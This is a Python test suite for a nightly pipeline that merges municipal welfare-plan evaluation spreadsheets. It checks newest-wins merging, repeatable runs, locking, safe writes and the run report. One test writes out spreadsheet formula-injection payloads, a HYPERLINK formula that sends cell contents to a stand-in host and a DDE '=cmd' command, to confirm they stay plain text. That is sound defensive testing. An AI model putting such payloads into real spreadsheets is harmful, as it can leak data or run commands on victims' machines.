"""The nightly merge end to end: newest wins, idempotence, safety, the run report."""

from __future__ import annotations

import json
import os
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from filelock import FileLock
from returns import edit_return, saved_time

from pipeline import master
from pipeline.errors import InputError, LockedError, OutputError
from pipeline.runner import LOCK_NAME, run_merge
from pipeline.settings import Settings

WELFARE = "R6_地域福祉計画評価_地域福祉課.xlsx"
SELF_RELIANCE = "R6_地域福祉計画評価_自立生活支援課.xlsx"


def settings(inbox: Path, outbox: Path) -> Settings:
    return Settings(inbox=inbox, outbox=outbox)


def master_rows(path: Path) -> dict[tuple[str, str], tuple]:
    ws = openpyxl.load_workbook(path, read_only=True)["評価一覧"]
    rows = list(ws.iter_rows(values_only=True))
    header = rows[0]
    i = {name: header.index(name) for name in ("事業No.", "担当課", "事業評価", "提出ファイル")}
    return {
        (str(r[i["事業No."]]), r[i["担当課"]]): (r[i["事業評価"]], r[i["提出ファイル"]], r)
        for r in rows[1:]
        if r[i["事業No."]] is not None
    }


def test_demo_inbox_reproduces_the_published_table(inbox, outbox):
    run = run_merge(settings(inbox, outbox))
    assert run.exit_code == 0
    report = json.loads((outbox / "run-report.json").read_text(encoding="utf-8"))
    assert report["fiscal_year"] == "R6"
    assert report["rows"] == 69
    assert report["goals"] == {
        "1": {"A": 25, "B": 9, "C": 0, "D": 0},
        "2": {"A": 6, "B": 9, "C": 0, "D": 3},
        "3": {"A": 10, "B": 6, "C": 0, "D": 1},
    }
    assert Path(report["master"]) == outbox / master.master_name(run.catalog)
    assert sorted(f["status"] for f in report["files"]) == ["accepted"] * 12
    assert all(set(f) >= {"name", "status", "issues"} for f in report["files"])
    assert [o["status"] for o in report["offices"]] == ["受理"] * 12
    history = list((outbox / "history").glob("run-report-*.json"))
    assert len(history) == 1 and json.loads(history[0].read_text(encoding="utf-8"))["rows"] == 69
    rows = master_rows(outbox / master.master_name(run.catalog))
    assert len(rows) == 69
    assert rows[("21", "地域福祉課(関係各課)")][0] == "D"
    assert rows[("31～34", "地域福祉課(関係各課)")][:2] == ("A", WELFARE)


def test_newest_file_wins_row_by_row(inbox, outbox):
    base = (inbox / WELFARE).stat().st_mtime
    newer = edit_return(
        inbox / WELFARE,
        inbox / "再提出_地域福祉課.xlsx",
        {("41", "地域福祉課"): {"rating": "C", "result": "令和6年度は補助の申請が1件あったが、要件を満たさなかった。"}},
        base + 3600,
    )
    run = run_merge(settings(inbox, outbox))
    assert run.exit_code == 0
    rows = master_rows(run.master)
    assert rows[("41", "地域福祉課")][:2] == ("C", newer.name)
    assert rows[("42", "地域福祉課")][:2] == ("B", newer.name)  # every row of the newer file wins
    by_name = {f.name: f for f in run.files}
    assert run.status_of(by_name[WELFARE]) == "superseded"
    assert by_name[WELFARE].status == "accepted"  # the verdict itself is never changed by the merge
    assert by_name[newer.name].status == "accepted"
    superseded = [i for i in run.issues if i.code == "row-superseded"]
    assert len(superseded) == 30 and {i.file for i in superseded} == {WELFARE}
    assert run.report["goals"]["3"] == {"A": 10, "B": 6, "C": 1, "D": 0}


def test_a_newer_invalid_row_never_replaces_an_older_valid_one(inbox, outbox):
    base = (inbox / SELF_RELIANCE).stat().st_mtime
    newer = edit_return(
        inbox / SELF_RELIANCE,
        inbox / "自立生活支援課_修正版.xlsx",
        {
            ("4", "自立生活支援課"): {"rating": "E"},  # invalid: the older B stays
            ("9", "自立生活支援課"): {"rating": "B"},  # valid: replaces the older A
        },
        base + 60,
    )
    run = run_merge(settings(inbox, outbox))
    assert run.exit_code == 1
    rows = master_rows(run.master)
    assert rows[("4", "自立生活支援課")][:2] == ("B", SELF_RELIANCE)
    assert rows[("9", "自立生活支援課")][:2] == ("B", newer.name)
    by_name = {f.name: f for f in run.files}
    assert by_name[newer.name].status == "partial"
    assert by_name[SELF_RELIANCE].status == "accepted"  # it still supplies project 4
    assert [(i.cell, i.code) for i in by_name[newer.name].errors] == [("G4", "rating-invalid")]
    kept = [i for i in run.issues if i.code == "row-kept-older"]
    assert [(i.file, i.cell) for i in kept] == [(newer.name, "G4")]
    assert SELF_RELIANCE in kept[0].message
    report = json.loads(run.report_path.read_text(encoding="utf-8"))
    entry = next(f for f in report["files"] if f["name"] == newer.name)
    assert {i["code"] for i in entry["issues"]} == {"rating-invalid", "row-kept-older"}


def test_equal_times_are_broken_by_file_name(inbox, outbox):
    base = (inbox / WELFARE).stat().st_mtime
    os.utime(inbox / WELFARE, (base, base))
    later_name = edit_return(inbox / WELFARE, inbox / "S_地域福祉課.xlsx", {("46", "地域福祉課"): {"rating": "A"}}, base,
                             saved=saved_time(inbox / WELFARE))  # same saved and received times
    run = run_merge(settings(inbox, outbox))
    # "S_…" sorts after "R6_…": the later name wins a tie
    assert master_rows(run.master)[("46", "地域福祉課")][:2] == ("A", later_name.name)


def test_two_runs_give_identical_cells(inbox, outbox):
    first = run_merge(settings(inbox, outbox))
    cells1 = _all_cells(first.master)
    second = run_merge(settings(inbox, outbox))
    assert second.master == first.master
    assert _all_cells(second.master) == cells1
    assert _all_cells(second.summary) == _all_cells(first.summary)


def _all_cells(path: Path) -> dict[str, list[tuple]]:
    wb = openpyxl.load_workbook(path, read_only=True)
    return {ws.title: list(ws.iter_rows(values_only=True)) for ws in wb.worksheets}


def test_department_text_that_looks_like_a_formula_stays_text(inbox, outbox):
    base = (inbox / WELFARE).stat().st_mtime
    hostile = {
        ("13", "地域福祉課"): {"result": '=HYPERLINK("http://example.invalid/?q="&A1,"詳細")'},
        ("22", "地域福祉課"): {"result": "+81-42-000-0000 へ問い合わせ"},
        ("23", "地域福祉課"): {"result": "-2件(前年比)"},
        ("26", "地域福祉課"): {"result": "@SUM(A1:A2)"},
        ("27", "地域福祉課"): {"outlook": "=cmd|' /C calc'!A0"},
    }
    edit_return(inbox / WELFARE, inbox / "地域福祉課_v2.xlsx", hostile, base + 10)
    run = run_merge(settings(inbox, outbox))
    for path in (run.master, run.summary):
        with zipfile.ZipFile(path) as z:
            for name in z.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), (path.name, name)
    wb = openpyxl.load_workbook(run.master)
    texts = {c.value: c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for change in hostile.values():
        for value in change.values():
            assert texts[value] == "s"


def test_a_failed_write_leaves_the_previous_outputs(inbox, outbox, monkeypatch):
    run_merge(settings(inbox, outbox))
    before = {p.name: p.read_bytes() for p in outbox.iterdir() if p.is_file()}
    resent = inbox / WELFARE  # re-sent: without anything new, the merge keeps the last workbooks
    os.utime(resent, (resent.stat().st_mtime + 60,) * 2)

    def disk_full(path, *args, **kwargs):
        Path(path).write_bytes(b"PK partial")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(master, "write_master", disk_full)
    with pytest.raises(OutputError, match="前回の出力はそのまま"):
        run_merge(settings(inbox, outbox))
    after = {p.name: p.read_bytes() for p in outbox.iterdir() if p.is_file()}
    assert after == before  # no temp file left, nothing replaced


def test_a_second_merge_exits_at_once_while_the_lock_is_held(inbox, outbox):
    outbox.mkdir()
    with FileLock(str(outbox / LOCK_NAME)), pytest.raises(LockedError, match="実行中"):
        run_merge(settings(inbox, outbox))
    assert run_merge(settings(inbox, outbox)).exit_code == 0  # released: the next run goes


def test_missing_inbox_and_unwritable_outbox(tmp_path):
    with pytest.raises(InputError, match="受信フォルダー"):
        run_merge(settings(tmp_path / "nowhere", tmp_path / "out"))
    blocker = tmp_path / "file"
    blocker.write_text("x")
    (tmp_path / "in").mkdir()
    with pytest.raises(OutputError, match="書き込めません"):
        run_merge(settings(tmp_path / "in", blocker / "out"))


def test_inputs_are_never_modified(inbox, outbox):
    before = {p: (p.read_bytes(), p.stat().st_mtime) for p in inbox.rglob("*") if p.is_file()}
    (inbox / "議事録.pdf").write_bytes(b"%PDF-1.4 not ours")
    before[inbox / "議事録.pdf"] = ((inbox / "議事録.pdf").read_bytes(), (inbox / "議事録.pdf").stat().st_mtime)
    run = run_merge(settings(inbox, outbox))
    assert {f.name: f.status for f in run.files}["議事録.pdf"] == "ignored"
    after = {p: (p.read_bytes(), p.stat().st_mtime) for p in inbox.rglob("*") if p.is_file()}
    assert after == before


def test_an_empty_inbox_gives_a_master_of_missing_offices(tmp_path):
    (tmp_path / "in").mkdir()
    run = run_merge(settings(tmp_path / "in", tmp_path / "out"))
    assert run.exit_code == 0 and run.report["rows"] == 0
    assert {o["status"] for o in run.report["offices"]} == {"未提出"}


def test_partial_submission_status(inbox, outbox):
    (inbox / SELF_RELIANCE).unlink()
    shutil.copy(inbox / WELFARE, inbox / "copy.xlsx")
    run = run_merge(settings(inbox, outbox))
    status = {o["office"]: o for o in run.report["offices"]}
    assert status["自立生活支援課"]["status"] == "未提出" and status["自立生活支援課"]["missing"] == 14
    assert status["地域福祉課"]["status"] == "受理" and status["地域福祉課"]["received"] == 2
    assert run.report["rows"] == 69 - 14


def test_a_night_with_nothing_new_keeps_the_workbooks_and_says_so_in_the_report(inbox, outbox):
    first = run_merge(settings(inbox, outbox))
    stamp = first.master.stat().st_mtime_ns, first.summary.stat().st_mtime_ns
    second = run_merge(settings(inbox, outbox))
    assert (second.master.stat().st_mtime_ns, second.summary.stat().st_mtime_ns) == stamp  # not rewritten
    assert second.report["rows"] == 69 and second.report["goals"] == first.report["goals"]
    assert all(f.from_cache for f in second.files)  # nothing was read again either
    # anything new (here a return re-sent a minute later) rewrites them
    resent = inbox / WELFARE
    os.utime(resent, (resent.stat().st_mtime + 60,) * 2)
    third = run_merge(settings(inbox, outbox))
    assert third.master.stat().st_mtime_ns != stamp[0]
    # and a master edited by hand since is rewritten too, never trusted
    cells = _all_cells(third.master)
    third.master.write_bytes(b"edited")
    fourth = run_merge(settings(inbox, outbox))
    assert _all_cells(fourth.master) == cells
